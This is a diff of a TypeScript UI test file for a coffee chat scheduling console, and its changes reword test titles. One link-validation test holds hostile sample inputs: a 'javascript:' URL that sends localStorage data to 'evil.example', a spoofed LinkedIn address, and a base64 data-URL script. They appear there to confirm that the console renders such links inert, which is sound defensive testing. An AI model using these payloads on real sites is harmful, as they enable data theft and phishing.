@@ -6,7 +6,7 @@ import { COFFEECHAT, coffeechat, listed } from '../testing/samples/coffeechats.t
 import { sampleId } from '../testing/samples/ids.ts'
 import { test } from '../testing/screen-test.tsx'
 
-/** Whom the company meets, when, and what was asked (TRUST-4, OFR-11, OFR-13). */
+/** A coffee chat of the company: times, questions and disclosure (TRUST-4, OFR-11, OFR-13). */
 
 const STARTS = ['2026-11-16T14:00:00+09:00', '2026-11-16T15:30:00+09:00']
 const times = STARTS.map((startsAt, place) => ({
@@ -17,7 +17,7 @@ const times = STARTS.map((startsAt, place) => ({
   canConfirm: false,
 }))
 
-test('[VAL-8] links open elsewhere, and what is no web address is text', async ({ api, open }) => {
+test('[VAL-8] links open in a new tab, and an invalid address is plain text', async ({ api, open }) => {
   const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
   const pretending = 'https://linkedin.com@evil.example/in/gaon'
   const page64 = 'data:text/html;base64,PHNjcmlwdD4='
@@ -64,7 +64,7 @@ test('[OFR-18] contacts from before the match stand under one row that says how 
   await expect.element(shared.getByRole('link')).not.toBeInTheDocument()
 })
 
-test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) => {
+test('[TRUST-4] up to five times are proposed', async ({ api, open }) => {
   api.answers('GET /console/coffeechats/:id', coffeechat())
   api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
   await open(`/coffeechats/${COFFEECHAT}`)
@@ -85,7 +85,7 @@ test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) =
   ])
 })
 
-test('[TRUST-4] times whose answer was lost are proposed once, and other times are another proposal', async ({
+test('[TRUST-4] times are proposed once after a lost answer; other times are a new proposal', async ({
   api,
   open,
 }) => {
@@ -110,7 +110,7 @@ test('[TRUST-4] times whose answer was lost are proposed once, and other times a
   expect(other).not.toBe(first)
 })
 
-test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) => {
+test('[TRUST-4] one of the candidate’s times is accepted', async ({ api, open }) => {
   const [time] = times
   const theirs = { ...time!, proposedBy: 'candidate' as const, canConfirm: true }
   api.answers('GET /console/coffeechats/:id', coffeechat({ status: 'PROPOSED', timeItems: [theirs] }))
@@ -128,7 +128,7 @@ test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) 
   ).toEqual([theirs.id])
 })
 
-test('[OFR-11] questions are asked, and what was answered stands with them', async ({ api, open }) => {
+test('[OFR-11] questions are asked, and answered ones show the answer', async ({ api, open }) => {
   const question = '가장 아끼는 화면은 무엇인가요?'
   api.answers('GET /console/coffeechats/:id', coffeechat())
   const asked = coffeechat({ questions: [{ id: sampleId(321), question, answer: null }] })
@@ -145,10 +145,7 @@ test('[OFR-11] questions are asked, and what was answered stands with them', asy
   ])
 })
 
-test('[OFR-11] of a coffee chat that is over and had no questions, none are told of', async ({
-  api,
-  open,
-}) => {
+test('[OFR-11] a past coffee chat without questions does not mention them', async ({ api, open }) => {
   const over = coffeechat({ status: 'CANCELLED', name: '' })
   api.answers('GET /console/coffeechats/:id', over)
   await open(`/coffeechats/${COFFEECHAT}`)
@@ -157,7 +154,7 @@ test('[OFR-11] of a coffee chat that is over and had no questions, none are told
   await expect.element(page.getByRole('region', { name: '만나기 전에 물어본 것' })).not.toBeInTheDocument()
 })
 
-test('[PRO-14] whoever leaves loses name and contact on the open page at once, and a meeting that was stays one', async ({
+test('[PRO-14] leaving removes name and contact from the open page, and a past meeting stays', async ({
   api,
   open,
 }) => {
@@ -193,14 +190,14 @@ test('[PRO-14] whoever leaves loses name and contact on the open page at once, a
   await expect.element(page.getByText(/취소/)).not.toBeInTheDocument()
 })
 
-describe('[OFR-19] where the two meet', () => {
+describe('[OFR-19] the place of the meeting', () => {
   const PLACE = 'PATCH /console/coffeechats/:id/place'
   const CAFE = { kind: 'ADDRESS', text: '서울 성동구 연무장길 7, 2층' } as const
   const CALL = { kind: 'LINK', text: 'https://meet.example.com/abc-defg' } as const
   const unplaced = page.getByRole('region', { name: '어디에서 만날까요?' })
   const placed = page.getByRole('region', { name: '여기서 만나요' })
 
-  test('the usual place comes first, and is taken with one tap', async ({ api, open }) => {
+  test('the usual place comes first and is set with one press', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
     api.answers(PLACE, coffeechat({ usualPlace: CAFE, place: CAFE }))
     await open(`/coffeechats/${COFFEECHAT}`)
@@ -212,7 +209,7 @@ describe('[OFR-19] where the two meet', () => {
     expect(api.sent(PLACE).map(({ body }) => body)).toEqual([{ place: CAFE, isUsual: false }])
   })
 
-  test('another is typed and kept as the usual one; what is wrong is told', async ({ api, open }) => {
+  test('another place is typed and saved as the usual one; problems are shown', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat())
     api.answers(PLACE, coffeechat({ place: CALL }))
     await open(`/coffeechats/${COFFEECHAT}`)
@@ -241,7 +238,7 @@ describe('[OFR-19] where the two meet', () => {
     await expect.element(placed.getByRole('checkbox')).not.toBeInTheDocument()
   })
 
-  test('is read, not changed, once it has begun; and the list shows it', async ({ api, open }) => {
+  test('a place is read-only once the meeting has begun, and the list shows it', async ({ api, open }) => {
     const confirmedTime = {
       id: sampleId(311),
       startsAt: '2026-11-15T11:00:00+09:00',
@@ -259,7 +256,7 @@ describe('[OFR-19] where the two meet', () => {
     await expect.element(placed.getByRole('button')).not.toBeInTheDocument()
   })
 
-  test('of a coffee chat that was cancelled meanwhile is not set', async ({ api, open }) => {
+  test('a place of a meeting cancelled meanwhile is not set', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
     api.refuses(PLACE, 'CONFLICT')
     await open(`/coffeechats/${COFFEECHAT}`)
